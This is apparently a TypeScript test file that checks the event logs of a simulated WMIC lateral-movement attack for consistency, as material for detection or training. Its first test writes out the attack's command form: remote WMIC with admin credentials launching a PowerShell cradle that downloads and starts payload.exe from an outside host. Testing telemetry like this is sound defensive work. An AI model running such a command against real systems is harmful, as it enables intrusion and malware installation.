import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ANCHOR, SYSMON, demoAt, eventsOf, field, find, only, rowsOf } from './demo-fixture.js';

const { demo, items } = demoAt();
const { story } = demo;
const events = eventsOf(items);
const rows = rowsOf(items);
const source = story.source.name;
const target = story.target.name;

const wmic4688 = only(
  find(events, 'Security', 4688, source, (data) => data['CommandLine'] === story.commandLine),
  'WMIC 4688',
);
const remote4624 = only(
  find(
    events,
    'Security',
    4624,
    target,
    (data) => data['TargetUserName'] === 'admin' && data['LogonType'] === '3',
  ),
  'network logon as admin on the target',
);
const cradle4688 = only(
  find(events, 'Security', 4688, target, (data) => data['CommandLine'] === story.remoteCommandLine),
  'cradle 4688',
);

describe('the WMIC attack', () => {
  it('runs WMIC with exactly the documented command-line form', () => {
    const cradle =
      'powershell -ExecutionPolicy Bypass -NoProfile -Command Invoke-WebRequest ' +
      '-Uri http://([^/]+)/payload\\.exe -OutFile payload\\.exe; Start-Process payload\\.exe';
    const pattern = new RegExp(
      `^wmic /node:"(10\\.20\\.\\d+\\.\\d+)" /user:"admin" /password:"[^"]+" ` +
        `process call create "${cradle}"$`,
    );
    const match = pattern.exec(story.commandLine);
    assert.ok(match, story.commandLine);
    assert.equal(match[1], story.target.ip);
    assert.equal(match[2], story.payload.domain);
  });

  it('starts WMIC from PowerShell in the compromised session on the source workstation', () => {
    assert.equal(field(wmic4688, 'NewProcessName'), 'C:\\Windows\\System32\\wbem\\WMIC.exe');
    assert.match(field(wmic4688, 'ParentProcessName'), /\\powershell\.exe$/);
    assert.equal(`CORP\\${field(wmic4688, 'SubjectUserName')}`, story.compromisedAccount);
    assert.equal(wmic4688.System.TimeCreated, story.attackStart);

    const sysmon = only(
      find(events, SYSMON, 1, source, (data) => data['CommandLine'] === story.commandLine),
      'WMIC Sysmon 1',
    );
    assert.equal(field(sysmon, 'OriginalFileName'), 'wmic.exe');
    assert.equal(
      `0x${Number(field(sysmon, 'ProcessId')).toString(16)}`,
      field(wmic4688, 'NewProcessId'),
    );
    assert.equal(field(sysmon, 'User'), story.compromisedAccount);
    assert.equal(field(sysmon, 'LogonId'), field(wmic4688, 'SubjectLogonId'));
  });

  it('presents admin credentials for the target and connects to its endpoint mapper', () => {
    const explicit = only(
      find(
        events,
        'Security',
        4648,
        source,
        (data) => data['TargetInfo'] === `RPCSS/${story.target.fqdn}`,
      ),
      '4648',
    );
    assert.equal(field(explicit, 'SubjectUserName'), 'jdoe');
    assert.equal(field(explicit, 'TargetUserName'), 'admin');
    assert.equal(field(explicit, 'TargetServerName'), story.target.fqdn);
    assert.equal(field(explicit, 'ProcessName'), 'C:\\Windows\\System32\\wbem\\WMIC.exe');
    assert.equal(field(explicit, 'ProcessId'), field(wmic4688, 'NewProcessId'));

    const rpc = find(
      events,
      SYSMON,
      3,
      source,
      (data) => data['DestinationIp'] === story.target.ip && data['DestinationPort'] === '135',
    );
    assert.equal(
      field(only(rpc, 'connection to port 135'), 'Image'),
      'C:\\Windows\\System32\\wbem\\WMIC.exe',
    );
  });

  it('logs the admin on to the target over the network from the source workstation address', () => {
    assert.equal(field(remote4624, 'IpAddress'), story.source.ip);
    assert.equal(field(remote4624, 'WorkstationName'), source);
    assert.equal(field(remote4624, 'AuthenticationPackageName'), 'NTLM');
    assert.equal(field(remote4624, 'TargetDomainName'), 'CORP');

    const privileges = find(
      events,
      'Security',
      4672,
      target,
      (data) => data['SubjectLogonId'] === field(remote4624, 'TargetLogonId'),
    );
    assert.equal(privileges.length, 1);
  });

  it('has WmiPrvSE.exe start the cradle in the admin logon', () => {
    const host = only(
      find(events, 'Security', 4688, target, (data) =>
        String(data['CommandLine']).endsWith('-secured -Embedding'),
      ),
      'WmiPrvSE 4688',
    );
    assert.equal(field(host, 'ParentProcessName'), 'C:\\Windows\\System32\\svchost.exe');
    assert.equal(
      field(cradle4688, 'ParentProcessName'),
      'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
    );
    assert.equal(field(cradle4688, 'ProcessId'), field(host, 'NewProcessId'));
    assert.equal(field(cradle4688, 'TargetUserName'), 'admin');
    assert.equal(field(cradle4688, 'TargetLogonId'), field(remote4624, 'TargetLogonId'));

    const sysmon = only(
      find(events, SYSMON, 1, target, (data) => data['CommandLine'] === story.remoteCommandLine),
      'cradle Sysmon 1',
    );
    assert.equal(field(sysmon, 'ParentImage'), 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe');
    assert.equal(field(sysmon, 'User'), 'CORP\\admin');
    assert.equal(field(sysmon, 'CurrentDirectory'), 'C:\\Windows\\system32\\');
  });

  it('resolves, fetches and saves the payload, and every sensor agrees', () => {
    const cradle = only(
      find(events, SYSMON, 1, target, (data) => data['CommandLine'] === story.remoteCommandLine),
      'cradle',
    );
    const guid = field(cradle, 'ProcessGuid');
    const byCradle = (data: Record<string, unknown>): boolean => data['ProcessGuid'] === guid;

    const lookup = only(find(events, SYSMON, 22, target, byCradle), 'DNS query');
    assert.equal(field(lookup, 'QueryName'), story.payload.domain);
    assert.match(
      field(lookup, 'QueryResults'),
      new RegExp(story.payload.ip.replaceAll('.', '\\.')),
    );

    const connect = only(find(events, SYSMON, 3, target, byCradle), 'connection');
    assert.equal(field(connect, 'DestinationIp'), story.payload.ip);

    const proxied = only(
      rows.filter((row) => row['RequestURL'] === story.payload.url),
      'proxy row',
    );
    assert.equal(proxied['SourceIP'], story.target.ip);
    assert.equal(String(proxied['SourcePort']), field(connect, 'SourcePort'));
    assert.equal(proxied['RequestMethod'], 'GET');
    assert.equal(proxied['DeviceAction'], 'TCP_MISS');

    const allowed = rows.filter(
      (row) =>
        row['DeviceName'] === 'FW01' &&
        row['DestinationIP'] === story.payload.ip &&
        row['DestinationPort'] === 80,
    );
    assert.equal(only(allowed, 'firewall row')['DeviceAction'], 'allow');

    const saved = only(find(events, SYSMON, 11, target, byCradle), 'file create');
    assert.equal(field(saved, 'TargetFilename'), story.payload.path);
  });

  it('starts the payload and installs it as a service', () => {
    const started = find(
      events,
      'Security',
      4688,
      target,
      (data) => data['NewProcessName'] === story.payload.path,
    );
    assert.equal(started.length, 2);
    assert.equal(
      field(started[0]!, 'ParentProcessName'),
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    );
    assert.equal(field(started[1]!, 'ParentProcessName'), 'C:\\Windows\\System32\\services.exe');

    const installed = only(
      find(events, 'System', 7045, target, (data) => data['ServiceName'] === story.service.name),
      '7045',
    );
    assert.equal(field(installed, 'ImagePath'), story.payload.path);
    assert.equal(installed.System.Qualifiers, 16384);
    const audited = only(
      find(events, 'Security', 4697, target, (data) => data['ServiceName'] === story.service.name),
      '4697',
    );
    assert.equal(field(audited, 'ServiceFileName'), story.payload.path);
    assert.equal(field(audited, 'SubjectLogonId'), field(remote4624, 'TargetLogonId'));
  });

  it('happens within seconds, a few hours before the anchor', () => {
    const start = Date.parse(story.attackStart);
    const hoursBefore = (ANCHOR.getTime() - start) / 3_600_000;
    assert.ok(hoursBefore > 1 && hoursBefore < 6, `${hoursBefore} hours before the anchor`);

    const install = Date.parse(
      String(
        find(
          events,
          'System',
          7045,
          target,
          (data) => data['ServiceName'] === story.service.name,
        )[0]?.System.TimeCreated,
      ),
    );
    assert.ok(install - start > 0 && install - start < 30_000);
    for (const step of story.steps) {
      assert.ok(Date.parse(step.time) >= start && Date.parse(step.time) < ANCHOR.getTime());
    }
  });
});
